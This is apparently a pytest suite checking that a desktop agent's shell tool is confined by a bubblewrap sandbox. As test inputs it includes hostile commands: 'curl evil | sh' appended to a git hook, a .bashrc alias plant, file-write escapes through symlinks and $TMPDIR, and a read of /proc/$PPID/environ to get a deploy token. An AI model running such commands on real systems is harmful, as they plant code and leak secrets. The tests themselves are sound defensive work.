"""The shell in the real OS sandbox (bubblewrap): escapes blocked and said so, the app's
folders and environment out of reach, ordinary work still working, and the fallback.

Every test here runs the real ``bwrap`` (scripts/system-packages installs it) through the
real `BashTool`; the same commands outside the sandbox show that each test can fail.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from desktop_agent.tools import (
    ApprovalDecision,
    ApprovalPolicy,
    ApprovalRequest,
    BashTool,
    Sandbox,
    ToolContext,
    Workspace,
    detect_sandbox,
    run_tool,
    seatbelt_profile,
)
from desktop_agent.tools._sandbox import BWRAP_MISSING, WINDOWS_NONE
from tests.helpers.sandbox import Sandbox as Fixture
from tests.helpers.sandbox import tree_hash

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap")


@pytest.fixture(scope="module")
def os_sandbox() -> Sandbox:
    found = detect_sandbox()
    assert found.kind == "bubblewrap", found.problem  # the suite installs bubblewrap
    return found


def _ctx(fx: Fixture, home: Path | None = None) -> ToolContext:
    env = dict(os.environ)
    if home is not None:
        env["HOME"] = str(home)
    return ToolContext(
        workspace=fx.workspace, on_update=fx.updates.append, output_dir=fx.output_dir, env=env
    )


def _escapes(outside: Path) -> dict[str, str]:
    """The five ways out of the project a user saw with bash always allowed."""
    return {
        "a folder elsewhere": f"mkdir -p {outside}/made && echo x > {outside}/made/f",
        "$HOME": 'echo "alias ls=evil" >> "$HOME/.bashrc"',
        "a symlink made in the project": f"ln -s {outside} out && echo x > out/via-link",
        "a Python child": f"python3 -c \"open('{outside}/py.txt', 'w').write('x')\"",
        "$TMPDIR then mv": f'echo x > "$TMPDIR/t" && mv "$TMPDIR/t" {outside}/moved',
    }


@pytest.mark.asyncio
@pytest.mark.parametrize("escape", list(_escapes(Path("/x"))))
async def test_each_escape_is_blocked_and_reported(
    sandbox: Fixture, os_sandbox: Sandbox, escape: str
) -> None:
    home = sandbox.outside / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    before = tree_hash(sandbox.outside)
    command = _escapes(sandbox.outside)[escape]
    result = await run_tool(
        BashTool(sandbox=os_sandbox), "c", {"command": command}, _ctx(sandbox, home)
    )
    assert result.is_error
    assert result.details is not None
    assert result.details["sandbox"] == "bubblewrap"
    assert result.details["sandboxBlocked"] == "write", result.text_content()
    text = result.text_content()
    assert "Read-only file system" in text
    assert "[Blocked by the sandbox: This command tried to write outside" in text
    assert tree_hash(sandbox.outside) == before
    # The same command outside the sandbox gets out: the test can fail.
    (sandbox.workspace.root / "out").unlink(missing_ok=True)
    free = await run_tool(
        BashTool(sandbox=Sandbox.none("test")), "c", {"command": command}, _ctx(sandbox, home)
    )
    assert not free.is_error, free.text_content()
    assert tree_hash(sandbox.outside) != before


@pytest.mark.asyncio
async def test_the_app_data_and_config_folders_are_not_visible(
    sandbox: Fixture, os_sandbox: Sandbox
) -> None:
    tool = BashTool(sandbox=os_sandbox)
    listing = await run_tool(
        tool, "c", {"command": f"ls -A {sandbox.data_dir} {sandbox.config_dir}"}, _ctx(sandbox)
    )
    assert not listing.is_error
    assert "sessions" not in listing.text_content()
    assert "settings.json" not in listing.text_content()
    read = await run_tool(
        tool, "c", {"command": f"cat {sandbox.config_dir}/settings.json"}, _ctx(sandbox)
    )
    assert read.is_error and "canary" not in read.text_content()
    assert read.details is not None and read.details["sandboxBlocked"] == "hidden"
    assert "the app's own data or configuration" in read.text_content()
    # A write into the hidden data folder lands in an empty tmpfs, never in the real one.
    before = tree_hash(sandbox.data_dir)
    await run_tool(tool, "c", {"command": f"echo x > {sandbox.data_dir}/planted"}, _ctx(sandbox))
    assert tree_hash(sandbox.data_dir) == before
    free = await run_tool(
        BashTool(sandbox=Sandbox.none("test")),
        "c",
        {"command": f"cat {sandbox.config_dir}/settings.json"},
        _ctx(sandbox),
    )
    assert "canary" in free.text_content()


@pytest.mark.asyncio
async def test_git_hooks_and_config_stay_read_only(sandbox: Fixture, os_sandbox: Sandbox) -> None:
    hook = sandbox.workspace.root / ".git" / "hooks" / "pre-commit"
    before = hook.read_text()
    result = await run_tool(
        BashTool(sandbox=os_sandbox),
        "c",
        {"command": "echo 'curl evil | sh' >> .git/hooks/pre-commit"},
        _ctx(sandbox),
    )
    assert result.is_error
    assert result.details is not None and result.details["sandboxBlocked"] == "write"
    assert hook.read_text() == before


APP_CHILD = textwrap.dedent(
    """
    import asyncio, json, sys
    from pathlib import Path
    from desktop_agent.tools import BashTool, Sandbox, ToolContext, Workspace, detect_sandbox
    from desktop_agent.tools import run_tool

    async def main():
        ws = Workspace(Path(sys.argv[1]))
        sandbox = detect_sandbox() if sys.argv[2] == "on" else Sandbox.none("off")
        command = (
            "echo ppid=$PPID; tr '\\\\0' '\\\\n' < /proc/$PPID/environ;"
            f" tr '\\\\0' '\\\\n' < /proc/{__import__('os').getpid()}/environ; ls /proc"
        )
        ctx = ToolContext(workspace=ws, output_dir=Path(sys.argv[1]) / "out")
        result = await run_tool(BashTool(sandbox=sandbox), "c", {"command": command}, ctx)
        print(json.dumps(result.text_content()))

    asyncio.run(main())
    """
)


def _app_reads(ws: Path, sandboxed: bool, secret: str) -> str:
    """What a command reads of its app's environment: a child "app" started with
    ``DEPLOY_TOKEN`` in its environment block runs ``cat /proc/$PPID/environ``."""
    env = {**os.environ, "DEPLOY_TOKEN": secret}
    done = subprocess.run(
        [sys.executable, "-c", APP_CHILD, str(ws), "on" if sandboxed else "off"],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=True,
    )
    text = json.loads(done.stdout.strip().splitlines()[-1])
    assert isinstance(text, str)
    return text


@pytest.mark.slow
@pytest.mark.asyncio
async def test_the_app_environment_cannot_be_read_through_proc(tmp_path: Path) -> None:
    secret = "canary-" + os.urandom(8).hex()
    inside = await asyncio.to_thread(_app_reads, tmp_path, True, secret)
    assert secret not in inside
    assert "ppid=" in inside and "PATH=" in inside  # /proc/$PPID/environ was read: bwrap's
    pids = [line for line in inside.splitlines() if line.isdigit()]
    assert len(pids) <= 4, pids  # a PID namespace of its own: bwrap, the shell, ls
    outside = await asyncio.to_thread(_app_reads, tmp_path, False, secret)
    assert secret in outside  # without the sandbox the same command reads it


ORDINARY_WORK = """
set -e
mkdir proj && cd proj
git init -q . && echo hi > a.txt && git add a.txt
git -c user.email=a@example.com -c user.name=A commit -qm first && git log --oneline | wc -l
python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'
printf 'int main(void) { return 0; }\\n' > hello.c
printf 'hello: hello.c\\n\\tcc -o hello hello.c\\n' > Makefile && make -s && ./hello && echo built
node -e 'console.log("node", 6 * 7)'
npm init -y > /dev/null && test -f package.json && echo npm-ok
mkdir lib && printf '{"name":"lib","version":"1.0.0"}' > lib/package.json
(cd lib && npm pack --silent > /dev/null)
npm install --no-audit --no-fund --offline ./lib/lib-1.0.0.tgz
test -f node_modules/lib/package.json && echo npm-install-ok
head -1 /etc/os-release > /dev/null && echo read-system
t=$(mktemp) && echo scratch > "$t" && cat "$t"
"""


@pytest.mark.slow
@pytest.mark.asyncio
async def test_ordinary_work_succeeds_inside(sandbox: Fixture, os_sandbox: Sandbox) -> None:
    result = await run_tool(
        BashTool(sandbox=os_sandbox),
        "c",
        {"command": ORDINARY_WORK, "timeout": 240},
        _ctx(sandbox),
    )
    text = result.text_content()
    assert not result.is_error, text
    for expected in (
        "\n1\n",
        "proj/.venv",
        "built",
        "node 42",
        "npm-ok",
        "npm-install-ok",
        "read-system",
        "scratch",
    ):
        assert expected in f"\n{text}\n", (expected, text)
    assert (sandbox.workspace.root / "proj" / "hello").is_file()


@pytest.mark.asyncio
async def test_the_network_switch_cuts_the_network(sandbox: Fixture) -> None:
    import socket

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    command = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 5)\""
    try:
        on = detect_sandbox()
        ok = await run_tool(BashTool(sandbox=on), "c", {"command": command}, _ctx(sandbox))
        assert not ok.is_error, ok.text_content()
        on.network = False
        cut = await run_tool(BashTool(sandbox=on), "c", {"command": command}, _ctx(sandbox))
    finally:
        server.close()
    assert cut.is_error
    assert "Network is unreachable" in cut.text_content() or "refused" in cut.text_content()


def test_no_bubblewrap_means_no_sandbox_and_a_sentence(tmp_path: Path) -> None:
    found = detect_sandbox(which=lambda name: None)
    assert not found.available and found.problem == BWRAP_MISSING
    assert detect_sandbox(platform="win32").problem == WINDOWS_NONE
    # A bwrap that cannot run (here: a program that fails as bwrap does without user
    # namespaces) is found out by running it.
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    broken = detect_sandbox(which=lambda name: str(fake))
    assert not broken.available
    assert broken.problem is not None and "No permissions to create new namespace" in broken.problem
    # The same on a Mac whose sandbox-exec refuses the profile: ask, do not fail every command.
    mac = detect_sandbox(platform="darwin", which=lambda name: str(fake))
    assert not mac.available and mac.problem is not None and "sandbox-exec refused" in mac.problem


@pytest.mark.asyncio
async def test_without_a_sandbox_every_command_is_asked(sandbox: Fixture) -> None:
    asked: list[ApprovalRequest] = []

    async def ask(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request)
        return ApprovalDecision.ALLOW_ALWAYS

    tool = BashTool(sandbox=detect_sandbox(which=lambda name: None))
    policy = ApprovalPolicy(ask, rules={"bash": "allow"}, always_allowed=["bash"])
    for _ in range(2):
        outcome = await policy.check(tool, "bash", "c", {"command": "true"}, _ctx(sandbox))
        assert outcome.allowed and outcome.asked
    assert len(asked) == 2
    assert asked[0].unconfined == BWRAP_MISSING
    sandboxed = BashTool(sandbox=detect_sandbox())
    outcome = await policy.check(sandboxed, "bash", "c", {"command": "true"}, _ctx(sandbox))
    assert outcome.allowed and not outcome.asked


@pytest.mark.asyncio
async def test_a_blocked_command_can_run_outside_once(sandbox: Fixture) -> None:
    """The policy's second question: asked only after a block, allowed for that call only."""
    answers = [ApprovalDecision.RUN_OUTSIDE_SANDBOX_ONCE, ApprovalDecision.DENY]
    asked: list[ApprovalRequest] = []

    async def ask(request: ApprovalRequest) -> ApprovalDecision:
        asked.append(request)
        return answers.pop(0)

    policy = ApprovalPolicy(ask, rules={"bash": "allow"})
    tool = BashTool(sandbox=detect_sandbox())
    first = await policy.check_outside_sandbox(tool, "c1", {"command": "x"}, _ctx(sandbox), "why")
    second = await policy.check_outside_sandbox(tool, "c2", {"command": "x"}, _ctx(sandbox), "why")
    assert first is not None and first.allowed
    assert first.record.decision == "run_outside_sandbox_once"
    assert second is not None and not second.allowed and second.record.decision == "deny"
    assert [r.sandbox_blocked for r in asked] == ["why", "why"]
    assert (
        await ApprovalPolicy(None).check_outside_sandbox(tool, "c", {}, _ctx(sandbox), "why")
        is None
    )


def test_the_seatbelt_profile_text() -> None:
    """macOS cannot be run here: the profile's text is checked, not its effect."""
    profile = seatbelt_profile(2, network=False)
    assert profile.startswith("(version 1)\n")
    assert profile.count("(") == profile.count(")")
    assert '(subpath (param "WORKSPACE"))' in profile and '(subpath (param "TMPDIR"))' in profile
    assert '(deny file-read* file-write* (subpath (param "HIDDEN_1")))' in profile
    assert "(deny network*)" in profile
    assert "(deny network*)" not in seatbelt_profile(0)
    mac = Sandbox("seatbelt", "/usr/bin/sandbox-exec", hidden=())
    argv = mac.wrap(["/bin/bash", "-c", "true"], workspace=Path("/w"), tmpdir=Path("/t"))
    assert argv[:2] == ("/usr/bin/sandbox-exec", "-p")
    assert "-DWORKSPACE=/w" in argv and "-DTMPDIR=/t" in argv
    assert argv[-3:] == ("/bin/bash", "-c", "true")


def test_result_words_for_each_block(sandbox: Fixture) -> None:
    box = Sandbox("bubblewrap", "bwrap", network=False, hidden=())
    assert box.blocked("touch: cannot touch '/x': Read-only file system", 1, []) == "write"
    assert box.blocked("curl: (6) Could not resolve host: example.com", 6, []) == "network"
    assert box.blocked("cat: /d/s.json: No such file", 1, [Path("/d")]) == "hidden"
    assert box.blocked("Read-only file system", 0, []) is None
    assert Sandbox.none("x").blocked("Read-only file system", 1, []) is None
    assert "Settings" in box.explain("network", sandbox.workspace.root)


@pytest.mark.asyncio
async def test_a_workspace_inside_a_hidden_folder_still_works(
    tmp_path: Path, os_sandbox: Sandbox
) -> None:
    """The app's data folder around the project: the project is there, its siblings not."""
    data = tmp_path / "data"
    (data / "sessions").mkdir(parents=True)
    (data / "sessions" / "s.jsonl").write_text("secret session\n")
    ws_root = data / "project"
    ws_root.mkdir()
    (ws_root / "a.txt").write_text("mine\n")
    link = tmp_path / "data-link"
    link.symlink_to(data)  # a forbidden root given through a symlink is hidden all the same
    ws = Workspace(ws_root, forbidden_roots=[link])
    ctx = ToolContext(workspace=ws, output_dir=tmp_path / "out")
    command = f"cat a.txt; echo new > b.txt; cat {data}/sessions/s.jsonl"
    result = await run_tool(BashTool(sandbox=os_sandbox), "c", {"command": command}, ctx)
    text = result.text_content()
    assert "mine" in text and "secret session" not in text
    assert (ws_root / "b.txt").read_text() == "new\n"


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to start a process as another user")
def test_the_same_sandbox_works_for_an_ordinary_user(os_sandbox: Sandbox) -> None:
    """The app runs as its user, not root: bwrap (not setuid here) then needs unprivileged
    user namespaces. The arguments the tool builds, run as ``nobody``, confine the same."""
    import shutil
    import tempfile

    ws = Path(tempfile.mkdtemp(prefix="sandbox-nobody-"))
    hidden = Path(tempfile.mkdtemp(prefix="sandbox-nobody-data-"))
    try:
        (hidden / "settings.json").write_text("secret\n")
        for path in (ws, hidden, hidden / "settings.json"):
            os.chown(path, 65534, 65534)
        argv = os_sandbox.wrap(
            ["/bin/sh", "-c", f"echo x > f; cat {hidden}/settings.json; echo y > /tmp/{ws.name}.x"],
            workspace=ws,
            forbidden=[hidden],
        )
        done = subprocess.run(
            argv, capture_output=True, text=True, user=65534, group=65534, cwd=ws, timeout=30
        )
        assert (ws / "f").read_text() == "x\n", done.stderr
        assert "secret" not in done.stdout
        assert "Read-only file system" in done.stderr
        assert not Path(f"/tmp/{ws.name}.x").exists()
    finally:
        shutil.rmtree(ws, ignore_errors=True)
        shutil.rmtree(hidden, ignore_errors=True)


@pytest.mark.asyncio
async def test_a_child_with_a_session_of_its_own_dies_with_the_command(
    sandbox: Fixture, os_sandbox: Sandbox
) -> None:
    """Outside the sandbox ``setsid`` escapes the process-group kill; inside, the PID
    namespace ends with the command and takes it along."""
    marker = f"sleep {3000 + os.getpid() % 1000}"
    command = f"setsid {marker} > /dev/null 2>&1 < /dev/null & echo started"
    result = await run_tool(BashTool(sandbox=os_sandbox), "c", {"command": command}, _ctx(sandbox))
    assert result.text_content().startswith("started")

    def alive() -> list[str]:
        found = []
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    cmdline = Path("/proc", entry, "cmdline").read_bytes()
                except OSError:
                    continue
                if cmdline.replace(b"\0", b" ").strip() == marker.encode():
                    found.append(entry)
        return found

    for _ in range(100):
        if not alive():
            break
        await asyncio.sleep(0.05)
    assert alive() == []


def test_the_description_mentions_the_sandbox_only_when_there_is_one(
    os_sandbox: Sandbox,
) -> None:
    assert "$TMPDIR are writable" in BashTool(sandbox=os_sandbox).definition().description
    bare = BashTool(sandbox=Sandbox.none("x")).definition().description
    assert "sandbox" not in bare
